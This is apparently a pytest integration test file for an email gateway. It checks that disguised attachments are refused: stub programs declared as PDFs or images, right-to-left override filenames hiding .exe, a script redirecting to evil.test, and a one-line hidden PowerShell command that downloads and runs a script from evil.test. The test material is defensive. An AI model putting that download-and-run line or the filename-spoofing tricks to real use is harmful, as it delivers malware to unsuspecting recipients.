"""Attachments that are not what they say, sent over SMTP to a running gateway.

Each attack is a reply to a client's live reply address, from the client's
own address (so every other check passes), built as a mail client builds it
(``email.message.EmailMessage``), with real-looking payloads: the start of a
Windows program (``MZ`` ... ``PE``) where the attacker hides one. Each must
be refused at DATA, with its RFC 3463 code and the catalogue's sentence,
and nothing queued. Genuine PDF, PNG, JPEG, DOCX, CSV and text files, and a
forwarded message carrying a PDF, still pass, and the worker stores them
byte for byte.
"""

from __future__ import annotations

import smtplib
from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import make_msgid

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from replygate.config import Settings
from replygate.gateway.replies import CATALOGUE, Condition
from replygate.gateway.server import GatewayThread
from replygate.store.models import Message, MessageAttachment
from replygate.workers.inbound import InboundWorker
from tests import sample_files
from tests.integration.gateway import conftest as gateway_tests
from tests.integration.gateway.conftest import World, queued

# The gateway tests' fixtures: a client with a live reply address, and gateways on ephemeral ports.
world = gateway_tests.world
start = gateway_tests.start

PE = sample_files.pe_executable()
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
File = tuple[str, str, bytes]  # filename, declared type, payload


def reply(
    world: World, *files: File, forwarding: tuple[EmailMessage, str | None] | None = None
) -> bytes:
    """The client's reply with ``files`` attached (and a forwarded message, named or not)."""
    msg = EmailMessage()
    msg["From"] = f"Cleo Park <{world.client_email}>"
    msg["To"] = world.address
    msg["Subject"] = "Re: Your appointment"
    msg["Message-ID"] = make_msgid(domain="client.test")
    msg.set_content("Here are the papers you asked for.\n")
    for name, ctype, payload in files:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(payload, maintype=maintype, subtype=subtype, filename=name)
    if forwarding is not None:
        inner, name = forwarding
        msg.add_attachment(inner, filename=name)
    return msg.as_bytes(policy=SMTP)


def letter(*files: File) -> EmailMessage:
    """A message from someone else, as the client forwards it as an attachment."""
    msg = EmailMessage()
    msg["From"] = "Council Tax <council@example.gov.uk>"
    msg["To"] = "cleo@client.test"
    msg["Subject"] = "Your council tax bill"
    msg["Message-ID"] = make_msgid(domain="example.gov.uk")
    msg.set_content("Your bill is attached.\n")
    for name, ctype, payload in files:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(payload, maintype=maintype, subtype=subtype, filename=name)
    return msg


def send(gateway: GatewayThread, world: World, raw: bytes) -> tuple[int, str]:
    """The gateway's answer to DATA: (code, "status text")."""
    with smtplib.SMTP("127.0.0.1", gateway.port, timeout=10) as smtp:
        smtp.ehlo("mx.client.test")
        try:
            smtp.sendmail(world.client_email, [world.address], raw)
        except smtplib.SMTPDataError as exc:
            return exc.smtp_code, exc.smtp_error.decode()
    return 250, ""


def assert_refused(answer: tuple[int, str], code: int, status: str, condition: str) -> None:
    """The answer is a refusal with this code and status, in the catalogue's sentence."""
    assert answer[0] == code and answer[1].startswith(f"{status} "), answer
    entry = CATALOGUE[Condition(condition)]
    assert answer == (entry.code, entry.describe())


@pytest.fixture
def gateway(settings: Settings, start: Callable[..., GatewayThread]) -> GatewayThread:
    return start(settings)


# attack: (files, forwarded message and its name, the reply: code, status, condition)
Expected = tuple[int, str, str]
ATTACKS: dict[str, tuple[tuple[File, ...], tuple[EmailMessage, str | None] | None, Expected]] = {
    "a program inside a forwarded message named scan.pdf": (
        (),
        (letter(("invoice.pdf", "application/pdf", PE)), "scan.pdf"),
        (554, "5.6.1", "attachment_content_mismatch"),
    ),
    "a program declared as a program, inside a forwarded message": (
        (),
        (letter(("setup.exe", "application/x-msdownload", PE)), None),
        (554, "5.6.1", "attachment_type_refused"),
    ),
    "a program declared as a PDF, inside a forwarded message": (
        (),
        (letter(("invoice.pdf", "application/pdf", PE)), None),
        (554, "5.6.1", "attachment_content_mismatch"),
    ),
    "invoice.pdf.exe declared image/png": (
        (("invoice.pdf.exe", "image/png", PE),),
        None,
        (550, "5.7.1", "attachment_name_refused"),
    ),
    "x.html declared image/png": (
        (("x.html", "image/png", b"<html><script>location='https://evil.test/'</script>"),),
        None,
        (550, "5.7.1", "attachment_name_refused"),
    ),
    "a program declared image/png with a .png name": (
        (("photo.png", "image/png", PE),),
        None,
        (554, "5.6.1", "attachment_content_mismatch"),
    ),
    "a program declared text/plain": (
        (("readme.txt", "text/plain", PE),),
        None,
        (554, "5.6.1", "attachment_content_mismatch"),
    ),
    "a genuine PNG named as a PDF": (
        (("statement.pdf", "image/png", sample_files.png()),),
        None,
        (554, "5.6.1", "attachment_content_mismatch"),
    ),
    "a right-to-left override hiding .exe (shows as photo_exe.jpg)": (
        (("photo_\u202egpj.exe", "image/jpeg", PE),),
        None,
        (550, "5.7.1", "attachment_name_refused"),
    ),
    "a right-to-left override on a genuine image (shows as scan_gnp.pdf)": (
        (("scan_\u202efdp.png", "image/png", sample_files.png()),),
        None,
        (550, "5.7.1", "attachment_name_refused"),
    ),
    "a first-strong isolate in the name": (
        (("form\u2068.pdf", "application/pdf", sample_files.pdf()),),
        None,
        (550, "5.7.1", "attachment_name_refused"),
    ),
    "a script named .js declared as text": (
        (("notes.js", "text/plain", b"WScript.Shell.Run('calc');\n"),),
        None,
        (550, "5.7.1", "attachment_name_refused"),
    ),
    "21 files in one mail": (
        tuple((f"page-{n}.png", "image/png", sample_files.png()) for n in range(21)),
        None,
        (552, "5.3.4", "too_many_attachments"),
    ),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_disguised_attachments_are_refused_at_data(
    attack: str, gateway: GatewayThread, world: World, sessions: sessionmaker[Session]
) -> None:
    files, forwarding, expected = ATTACKS[attack]
    raw = reply(world, *files, forwarding=forwarding)
    assert_refused(send(gateway, world, raw), *expected)
    assert queued(sessions) == []


def test_a_mail_that_is_one_attached_program_is_refused_at_data(
    gateway: GatewayThread, world: World, sessions: sessionmaker[Session]
) -> None:
    """No multipart at all: the whole mail is one text part marked as an attached program.

    The parser reads such a part as a file, not as body, so the gateway must
    check it as the worker would, rather than wave it through as plain text.
    """
    raw = (
        f"From: Cleo Park <{world.client_email}>\r\n"
        f"To: {world.address}\r\n"
        "Subject: Re: Your appointment\r\n"
        f"Message-ID: {make_msgid(domain='client.test')}\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="us-ascii"\r\n'
        'Content-Disposition: attachment; filename="update.cmd"\r\n'
        "\r\n"
        "powershell -w hidden -c iwr https://evil.test/a.ps1 | iex\r\n"
    ).encode()
    assert_refused(send(gateway, world, raw), 550, "5.7.1", "attachment_name_refused")
    assert queued(sessions) == []


def test_the_limit_on_files_is_a_setting(
    settings: Settings,
    start: Callable[..., GatewayThread],
    world: World,
    sessions: sessionmaker[Session],
) -> None:
    gateway = start(settings, max_attachments=2)
    png = sample_files.png()
    three = reply(world, *[(f"page-{n}.png", "image/png", png) for n in range(3)])
    assert_refused(send(gateway, world, three), 552, "5.3.4", "too_many_attachments")
    two = reply(world, *[(f"page-{n}.png", "image/png", png) for n in range(2)])
    assert send(gateway, world, two) == (250, "")
    assert len(queued(sessions)) == 1


GENUINE: tuple[File, ...] = (
    ("Intake form (signed).pdf", "application/pdf", sample_files.pdf()),
    ("photo.png", "image/png", sample_files.png()),
    ("IMG_0042.jpg", "image/jpeg", sample_files.JPEG),
    ("Letter to Dr Hale.docx", DOCX, sample_files.docx()),
    ("payments.csv", "text/csv", sample_files.CSV),
    ("notes.txt", "text/plain", sample_files.TEXT),
)


def test_genuine_files_pass_and_are_stored(
    gateway: GatewayThread, world: World, settings: Settings, sessions: sessionmaker[Session]
) -> None:
    forwarded = letter(("bill.pdf", "application/pdf", sample_files.pdf()))
    raw = reply(world, *GENUINE, forwarding=(forwarded, None))
    assert send(gateway, world, raw) == (250, "")
    InboundWorker(sessions, settings).drain()
    with sessions() as s:
        (message,) = s.scalars(select(Message).where(Message.source == "email")).all()
        stored = s.scalars(
            select(MessageAttachment)
            .where(MessageAttachment.message_id == message.id)
            .order_by(MessageAttachment.id)
        ).all()
        found = [(a.filename, a.content_type, bytes(a.data)) for a in stored]
    assert found[:-1] == list(GENUINE)
    name, ctype, data = found[-1]
    assert (name, ctype) == ("Your council tax bill.eml", "message/rfc822")
    assert b"bill.pdf" in data
